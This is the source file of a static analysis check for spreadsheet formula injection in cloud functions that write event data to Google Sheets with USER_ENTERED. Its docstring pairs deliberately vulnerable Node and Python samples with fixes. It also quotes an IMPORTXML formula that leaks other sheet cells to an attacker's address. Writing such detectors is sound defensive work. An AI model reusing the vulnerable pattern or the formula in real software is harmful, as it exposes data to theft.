"""Event data is put into a spreadsheet as if somebody had typed it.

## Why it matters
A cell that begins with `=` is a formula. The sender writes one that sends what else is in the sheet to an address of
theirs (`=IMPORTXML(CONCAT("https://…", B2), "//a")`), or shows a link with a text of their choice to whoever opens it.

## Vulnerable
```json firebase.json
{"functions": {"source": "functions"}}
```
```json functions/package.json
{"main": "index.js", "dependencies": {"firebase-functions": "6.0.0", "googleapis": "144.0.0"}}
```
```javascript functions/index.js
const { onRequest } = require('firebase-functions/v2/https');
const { google } = require('googleapis');

exports.lead = onRequest(async (req, res) => {
  const auth = new google.auth.GoogleAuth({ scopes: ['https://www.googleapis.com/auth/spreadsheets'] });
  const sheets = google.sheets({ version: 'v4', auth });
  await sheets.spreadsheets.values.append({
    spreadsheetId: process.env.SHEET,
    range: 'Leads!A:C',
    valueInputOption: 'USER_ENTERED',  // GOAT0131
    requestBody: { values: [[new Date().toISOString(), req.body.name || '', req.body.email]] },
  });
  res.sendStatus(204);
});
```

## Fixed
```javascript functions/index.js
const { onRequest } = require('firebase-functions/v2/https');
const { google } = require('googleapis');

exports.lead = onRequest(async (req, res) => {
  const auth = new google.auth.GoogleAuth({ scopes: ['https://www.googleapis.com/auth/spreadsheets'] });
  const sheets = google.sheets({ version: 'v4', auth });
  await sheets.spreadsheets.values.append({
    spreadsheetId: process.env.SHEET,
    range: 'Leads!A:C',
    valueInputOption: 'RAW',
    requestBody: { values: [[new Date().toISOString(), req.body.name || '', req.body.email]] },
  });
  res.sendStatus(204);
});
```

## Vulnerable, in Python
```text requirements.txt
functions-framework==3.9.2
google-api-python-client==2.150.0
```
```python main.py
import os

import functions_framework
from googleapiclient.discovery import build


@functions_framework.http
def lead(request):
    sent = request.get_json()
    sheet = build("sheets", "v4").spreadsheets()
    sheet.values().append(  # GOAT0131
        spreadsheetId=os.environ["SHEET"],
        range="Leads!A:B",
        valueInputOption="USER_ENTERED",
        body={"values": [[sent["name"], sent["email"]]]},
    ).execute()
    return "", 204
```

## Fixed, or never broken: numbers, and cells that begin with text of the program
```python main.py
import os

import functions_framework
from googleapiclient.discovery import build


@functions_framework.http
def lead(request):
    sent = request.get_json()
    sheet = build("sheets", "v4").spreadsheets()
    sheet.values().append(
        spreadsheetId=os.environ["SHEET"],
        range="Leads!A:B",
        valueInputOption="USER_ENTERED",
        body={"values": [[f"'{sent['name']}", int(sent["age"])]]},
    ).execute()
    return "", 204
```

## Vulnerable, in a formula of the program's own
```python main.py
import os

import functions_framework
from googleapiclient.discovery import build


@functions_framework.http
def lead(request):
    sent = request.get_json()
    sheet = build("sheets", "v4").spreadsheets()
    cell = f'=IMAGE("{sent["picture"]}")'
    sheet.values().update(  # GOAT0131
        spreadsheetId=os.environ["SHEET"], range="A1", valueInputOption="USER_ENTERED", body={"values": [[cell]]}
    ).execute()
    return "", 204
```

## Remedy
Write values as they are (`RAW` in place of `USER_ENTERED`), or put an apostrophe before those that begin with `=`, `+`,
`-` or `@`.

## References
- https://owasp.org/www-community/attacks/CSV_Injection
- https://cwe.mitre.org/data/definitions/1236.html
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

from attrs import evolve

from goatherd.checks.api import check
from goatherd.core.finding import MEDIUM, Finding
from goatherd.model.application import Application

if TYPE_CHECKING:
    from goatherd.core.source import Span
    from goatherd.model.flow import Flow
    from goatherd.model.function import Function

_AS_TYPED = ("valueInputOption", "USER_ENTERED")


@check("GOAT0131", sas=1, cwe=1236, severity=MEDIUM, since="0.1")
def event_data_in_spreadsheet(app: Application) -> Iterator[Finding]:
    """One finding for every place that writes to a sheet, of the data that surely gets there."""
    written: dict[Span, list[tuple[Function, Flow]]] = {}
    for function in app.functions:
        for flow in app.flows(function, "formula"):
            written.setdefault(flow.sink, []).append((function, flow))
    for sink, found in written.items():
        function, surest = max(found, key=lambda each: each[1].confidence)
        finding = surest.finding(
            f"{surest.source.path} is put into a spreadsheet, which takes what begins like a formula for one"
        )
        calls = (call for call in app.behaviour(function).calls if call.span == sink)
        place = next((call.places[_AS_TYPED] for call in calls if _AS_TYPED in call.places), sink)
        yield evolve(finding, span=place, whatever_source=True)
